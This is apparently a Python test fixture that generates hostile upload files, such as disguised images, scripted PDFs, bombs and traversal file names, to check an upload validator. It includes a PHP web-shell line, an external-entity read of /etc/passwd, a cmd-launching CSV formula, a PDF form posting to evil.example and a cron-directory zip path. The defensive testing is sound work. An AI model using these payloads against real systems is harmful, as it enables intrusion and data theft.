"""A hundred files that somebody who means harm would hand in; made here, so that nothing dangerous lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pillow_heif
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

pillow_heif.register_heif_opener()
#: Planted wherever a file can carry something along; nothing of it may leave again.
SECRET = b"Geheim-4411"
SCRIPT = b"<script>alert(1)</script>"
MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: `want` is `refused`, `clean` (a picture made anew), `kept` (a harmless PDF), or `either` of the first two."""

    label: str
    name: str
    data: bytes
    want: str


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **extra: object
) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size, 90 if mode in {"L", "P", "1", "I;16"} else None).save(target, kind, **extra)
    return target.getvalue()


def located(kind: str) -> bytes:
    """A picture that says where and by whom it was taken."""
    plain = Image.new("RGB", (60, 40), "green")
    exif = plain.getexif()
    exif[ExifTags.Base.ImageDescription] = exif[ExifTags.Base.Artist] = SECRET.decode()
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (51.0, 33.0, 1.0)
    target = io.BytesIO()
    plain.save(target, kind, exif=exif)
    return target.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def packed_zeros(megabytes: int) -> bytes:
    """So many zeros as zlib packs them, from one piece that is repeated: packing them takes seconds, at every start of tests."""
    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(b"\0" * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (megabytes * MEGABYTE % 65521) << 16 | 1
    return b"\x78\xda" + piece * megabytes + packer.flush() + struct.pack(">I", checksum)


def png(width: int, height: int, body: bytes = b"\0" * 1000, extra: bytes = b"", depth: int = 8) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + extra
        + chunk(b"IDAT", zlib.compress(body, 9))
        + chunk(b"IEND", b"")
    )


def with_text(text: bytes, *, packed: bool = False) -> bytes:
    """A picture with words in its text blocks."""
    words, target = PngInfo(), io.BytesIO()
    words.add_text("Comment", text.decode(), zip=packed)
    Image.new("RGB", (60, 40)).save(target, "PNG", pnginfo=words)
    return target.getvalue()


def zipped(names: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return target.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def action(kind: str, **more: object) -> Callable[[PdfWriter], None]:
    """Something that a viewer would do when the document is opened."""

    def change(writer: PdfWriter) -> None:
        what = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
        for key, value in more.items():
            what[NameObject(f"/{key}")] = (
                value if isinstance(value, ArrayObject) else TextStringObject(str(value))
            )
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(what)

    return change


def on_page(kind: str) -> Callable[[PdfWriter], None]:
    """The same behind a mark on the page."""

    def change(writer: PdfWriter) -> None:
        what = DictionaryObject(
            {NameObject("/S"): NameObject(f"/{kind}"), NameObject("/JS"): TextStringObject("x()")}
        )
        mark = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/A"): what,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])

    return change


def named_tree(key: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject(f"/{key}"): DictionaryObject()}
        )

    return change


def packed_pdf(inner: bytes) -> bytes:
    """Objects inside a compressed stream, where a search through the bytes does not look."""
    stream = zlib.compress(b"1 0 " + inner)
    out, offsets = b"%PDF-1.7\n", {}
    for number, text in (
        (2, b"<< /Type /Catalog /Pages 3 0 R /OpenAction 1 0 R >>"),
        (3, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
        (4, b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"),
        (
            5,
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
            % (len(stream), stream),
        ),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    places = [(0, 0, 255), (2, 5, 0), *((1, offsets[n], 0) for n in (2, 3, 4, 5)), (1, len(out), 0)]
    rows = b"".join(struct.pack(">BHB", *row) for row in places)
    start = len(out)
    head = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 2 0 R /Length %d >>" % len(rows)
    return (
        out
        + b"6 0 obj\n"
        + head
        + b"\nstream\n"
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )


def animated(kind: str) -> bytes:
    frames, target = [Image.new("RGB", (30, 30), color) for color in ("red", "blue", "green")], io.BytesIO()
    frames[0].save(target, kind, save_all=True, append_images=frames[1:])
    return target.getvalue()


def gif_script() -> bytes:
    """A GIF that is a program as well: its width is the beginning of a comment."""
    body = picture("GIF")
    return b"GIF89a/*" + body[8:] + b"*/=1;alert(1)//" + SCRIPT


def foreign() -> Iterator[Hostile]:
    """Files that are neither picture nor PDF, whatever their name says."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    office = zipped({"word/document.xml": b"\0" * (60 * MEGABYTE), "[Content_Types].xml": b"x"})
    kinds = {
        "svg": svg,
        "svg with outside entity": entity,
        "svg packed": zlib.compress(svg),
        "html": b"<html>" + SCRIPT,
        "php": b"<?php system($_GET[0]);",
        "shell": b"#!/bin/sh\nid",
        "program": b"MZ\x90\0" + b"\0" * 200,
        "elf": b"\x7fELF" + b"\0" * 200,
        "java": b"\xca\xfe\xba\xbe" + b"\0" * 50,
        "zip": zipped({"a": b"x"}),
        "zip that climbs": zipped({"../../etc/cron.d/x": b"x"}),
        "document bomb": office,
        "rtf": b"{\\rtf1 x}",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
        "rar": b"Rar!\x1a\x07\x00",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "tar": b"a" * 257 + b"ustar" + b"\0" * 250,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 20,
        "xml": b"<?xml version='1.0'?><a/>",
        "json": b"{}",
        "csv formula": b"=cmd|' /C calc'!A0;1",
        "text": b"Guten Tag",
        "bmp": picture("BMP"),
        "tiff": picture("TIFF"),
        "ico": picture("ICO", size=(16, 16)),
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
        "tga": picture("TGA"),
        "mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 80,
        "avif": b"\0\0\0\x1cftypavif" + b"\0" * 80,
        "flash": b"CWS\x0a" + b"\0" * 40,
        "font": b"\0\1\0\0" + b"\0" * 60,
        "wasm": b"\0asm\1\0\0\0",
        "zeros": b"\0" * 5000,
        "nothing": b"",
        "one byte": b"\xff",
        "html behind spaces": b"  \n<html>" + pdf(),
    }
    for place, (label, data) in enumerate(kinds.items()):
        # The name promises something harmless, each time something else.
        yield Hostile(label, ("foto.jpg", "plan.pdf", "bild.png", "bild.webp")[place % 4], data, "refused")


def pictures() -> Iterator[Hostile]:
    """Pictures that are cut, carry something along, or are larger than they look."""
    jpeg, gif = picture(), picture("GIF")
    for label, data in {
        "gif and script": gif_script(),
        "jpeg and html": jpeg + b"<html>" + SCRIPT,
        "jpeg and zip": jpeg + zipped({"a": b"x"}),
        "png and php": picture("PNG") + b"<?php x();",
        "webp and iframe": picture("WEBP") + b"<iframe src=x>",
        "gif and doctype": gif + b"<!DOCTYPE html>",
        "jpeg and pdf": jpeg + pdf(),
        "png and document": picture("PNG") + zipped({"word/a": b"x"}),
        "script in a comment": picture(comment=SCRIPT),
        "script in a text": with_text(SCRIPT),
        "address in a comment": picture(comment=b"javascript:alert(1)"),
        "jpeg cut": jpeg[: len(jpeg) // 2],
        "png cut": picture("PNG")[:60],
        "gif cut": gif[:20],
        "webp cut": picture("WEBP")[:30],
        "heif cut": picture("HEIF")[:200],
        "heif head alone": b"\0\0\0\x18ftypheic" + b"\0" * 60,
        "jpeg head alone": b"\xff\xd8\xff\xe0" + b"\0" * 300,
        "png head alone": b"\x89PNG\r\n\x1a\n",
        "gif head alone": b"GIF89a",
        "webp head alone": b"RIFF\x24\0\0\0WEBPVP8 ",
        "png bomb": png(60_000, 60_000, b"\0" * (9 * MEGABYTE)),
        "png bomb, smaller": png(8000, 8000, b"\0" * MEGABYTE),
        "png endless width": png(2**31 - 1, 1),
        "png without size": png(0, 0),
        "png negative size": png(2**32 - 1, 2**32 - 1),
        "a long strip": picture("PNG", (5000, 20)),
        "gif of huge size": b"GIF89a" + b"\xff\xff\xff\xff" + gif[10:],
        "wrong checksum": png(60, 40, b"\0" * 7240)[:40] + b"\0\0\0\0" + png(60, 40)[44:],
        "too large": b"\xff\xd8\xff" + b"\0" * (10 * MEGABYTE),
        "one byte too large": jpeg + b"\0" * (10 * MEGABYTE + 1 - len(jpeg)),
        "packed text bomb": png(60, 40, b"\0" * 7240, chunk(b"zTXt", b"Comment\0\0" + packed_zeros(200))),
        "profile bomb": png(60, 40, b"\0" * 7240, chunk(b"iCCP", b"x\0\0" + packed_zeros(50))),
        "noise": b"\xff\xd8\xff" + bytes(range(256)) * 40,
    }.items():
        yield Hostile(
            label, "foto.jpg", data, "either" if "bomb" in label and "png" not in label else "refused"
        )
    for label, data in {
        **{f"{kind} with place": located(kind) for kind in ("JPEG", "PNG", "WEBP", "HEIF")},
        "jpeg with comment": picture(comment=SECRET),
        "png with text": with_text(SECRET),
        "png with packed text": with_text(SECRET, packed=True),
        "broken profile": picture(icc_profile=SECRET * 9),
        "broken profile in a png": picture("PNG", icc_profile=b"\0" * 200),
        "cmyk": picture(mode="CMYK"),
        "grey": picture(mode="L"),
        "one bit": picture("PNG", mode="1"),
        "sixteen bit": picture("PNG", mode="I;16"),
        "palette": picture("GIF", mode="P"),
        "transparent": picture("PNG", mode="RGBA"),
        "animated gif": animated("GIF"),
        "animated webp": animated("WEBP"),
        "animated png": animated("PNG"),
        "heif": picture("HEIF"),
        "one pixel": picture("PNG", (1, 1)),
        "rest behind the end": picture() + SECRET * 50,
        "xmp": picture("WEBP", xmp=b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>"),
    }.items():
        yield Hostile(label, "foto.exe", data, "clean")


def documents() -> Iterator[Hostile]:
    """PDF that would do something, hides something, or is none."""
    script = pdf(action("JavaScript", JS="app.alert(1)"))
    for label, data in {
        "script": script,
        "script with a disguised name": script.replace(b"/JavaScript", b"/J#61vaScript"),
        "launch": pdf(action("Launch", F="calc.exe")),
        "form that sends": pdf(action("SubmitForm", F="https://evil.example/")),
        "data from outside": pdf(action("ImportData", F="x.fdf")),
        "go to an embedded one": pdf(action("GoToE", T="x")),
        "rendition": pdf(action("Rendition", R="x")),
        "script behind a link": pdf(on_page("JavaScript")),
        "launch behind a link": pdf(on_page("Launch")),
        "names of scripts": pdf(named_tree("JavaScript")),
        "attachment": pdf(lambda w: w.add_attachment("a.exe", b"MZ")),
        "script in a packed object": packed_pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "locked": pdf(lambda w: w.encrypt("wort")),
        "pdf and zip": pdf() + zipped({"a": b"x"}),
        "pdf and html": pdf() + SCRIPT,
        "pdf behind html": b"<html>" + pdf(),
        "pdf cut": pdf()[:150],
        "end alone": b"%PDF-1.7\nnichts\n%%EOF",
        "head alone": b"%PDF-1.7",
        "too many pages": pdf(pages=1001),
        "circle of pages": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"  # noqa: E501
        b"trailer<</Root 1 0 R>>\n%%EOF",
        "deep": b"%PDF-1.4\n1 0 obj" + b"[" * 50_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "too large": b"%PDF-1.7\n" + b"\0" * (10 * MEGABYTE),
    }.items():
        yield Hostile(label, "plan.pdf", data, "refused")
    for name in (
        "../../etc/passwd.pdf",
        "..\\..\\windows\\x.pdf",
        "\u202egnp.exe.pdf",
        "a\0b.pdf",
        "a" * 4000 + ".pdf",
        ".pdf",
        "",
        "x.pdf\r\nSet-Cookie: a=b",
        '"; filename="x.html',
        "<script>.pdf",
        "Häuser & Plan ✓.pdf",
        "x.html",
        "con.pdf",
        "/",
        "%2e%2e%2f.pdf",
        "\ud800.pdf",
    ):
        yield Hostile(f"name {name[:20]!r}", name, pdf(), "kept")


def everything() -> list[Hostile]:
    """All of them."""
    return [*foreign(), *pictures(), *documents()]
